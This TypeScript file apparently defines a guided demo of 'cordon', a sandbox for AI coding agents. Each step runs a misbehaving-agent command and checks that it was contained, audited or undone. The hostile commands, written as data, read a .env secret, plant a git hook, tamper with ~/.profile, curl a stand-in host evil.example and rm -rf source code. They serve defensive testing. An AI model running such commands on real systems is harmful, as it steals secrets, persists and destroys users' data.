/** The steps of `cordon try`, as data: a command, and what must be true afterwards. */

import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'

/** The folders of a tour, below one temporary folder. */
export interface TourPlace {
  readonly base: string
  readonly project: string
  readonly home: string
}

export interface TourStep {
  readonly title: string
  /** The words after `cordon`; null for the question, which an agent's session asks. */
  readonly words: readonly string[] | null
  /** The expected result in words; `holds` checks it outside the sandbox. */
  readonly promise: string
  readonly holds: (place: TourPlace, ran: TourRan) => boolean
}

/** A command's exit code and all output. */
export interface TourRan {
  readonly code: number | null
  readonly text: string
}

export const TOUR_KEY = 'API_KEY=this-is-the-secret-of-the-tour'
const PROFILE = 'export EDITOR=vi\n'
const NOTE = 'buy milk\n'
const CODE = 'add() { echo $(($1 + $2)); }\n'

/** The tour's files, by paths below its base. */
export const TOUR_FILES: Readonly<Record<string, string>> = {
  'project/.env': `${TOUR_KEY}\n`,
  'project/src/sum.sh': CODE,
  'project/test.sh':
    '. ./src/sum.sh\n[ "$(add 2 2)" = 4 ] && echo "ok 1 - adds" || exit 1\n[ "$(add 2 -2)" = 0 ] && echo "ok 2 - subtracts" || exit 1\n',
  // A repository like `git init` creates, so that the tour does not need git.
  'project/.git/HEAD': 'ref: refs/heads/main\n',
  'project/.git/config': '[core]\n\trepositoryformatversion = 0\n',
  'project/.git/objects/info/.keep': '',
  'project/.git/refs/heads/.keep': '',
  'project/.git/info/exclude': '',
  'project/.git/hooks/README.sample': '',
  'home/.profile': PROFILE,
  'notes/todo.txt': NOTE,
}

const read = (path: string): string => (existsSync(path) ? readFileSync(path, 'utf8') : '')

/** The steps before the question, and those after it. */
export const TOUR: readonly TourStep[] = [
  {
    title: 'An agent reads the secrets of the project',
    words: ['run', '--', 'cat', '.env'],
    promise: 'the secret was not read, and the attempt was reported',
    holds: (_, { text }) => !text.includes(TOUR_KEY) && text.includes('.env is a secret'),
  },
  {
    title: 'It leaves a hook that you would run later, outside',
    words: ['run', '--', 'sh', '-c', 'echo evil > .git/hooks/pre-commit'],
    promise: 'there is no hook',
    holds: ({ project }, { code }) => code !== 0 && !existsSync(join(project, '.git/hooks/pre-commit')),
  },
  {
    title: 'It writes outside of the project',
    words: ['run', '--', 'sh', '-c', 'echo evil >> ~/.profile; echo evil > ../notes/todo.txt'],
    promise: 'your files are as they were',
    holds: ({ base, home }) => read(join(home, '.profile')) === PROFILE && read(join(base, 'notes/todo.txt')) === NOTE,
  },
  {
    title: 'It sends something to a host that is not allowed',
    words: ['run', '--', 'sh', '-c', 'curl -sS https://evil.example || getent hosts evil.example'],
    promise: 'nothing was sent, and the host was named',
    holds: (_, { code, text }) => code !== 0 && text.includes('evil.example'),
  },
  {
    title: 'It runs the tests: no questions',
    words: ['run', '--', 'sh', 'test.sh'],
    promise: 'the tests pass',
    holds: (_, { code, text }) => code === 0 && text.includes('ok 2 - subtracts'),
  },
  {
    title: 'It asks you for the secret, by its file tool: you decide',
    words: null,
    promise: 'your answer was followed',
    holds: (_, { code }) => code === 0,
  },
  {
    title: 'It deletes your code',
    words: ['run', '--', 'rm', '-rf', 'src'],
    promise: 'the code is gone',
    holds: ({ project }, { code }) => code === 0 && !existsSync(join(project, 'src')),
  },
  {
    title: 'You undo that',
    words: ['undo', '--last'],
    promise: 'every byte of the code is back',
    holds: ({ project }) => read(join(project, 'src/sum.sh')) === CODE,
  },
  {
    title: 'What happened is on record',
    words: ['audit', 'tail'],
    promise: 'every call is recorded',
    holds: (_, { text }) => text.includes('.env') && text.includes('evil.example'),
  },
  {
    title: 'The record is intact',
    words: ['audit', 'verify'],
    promise: 'no line was changed or cut',
    holds: (_, { code, text }) => code === 0 && /all whole|no damage found/.test(text),
  },
]
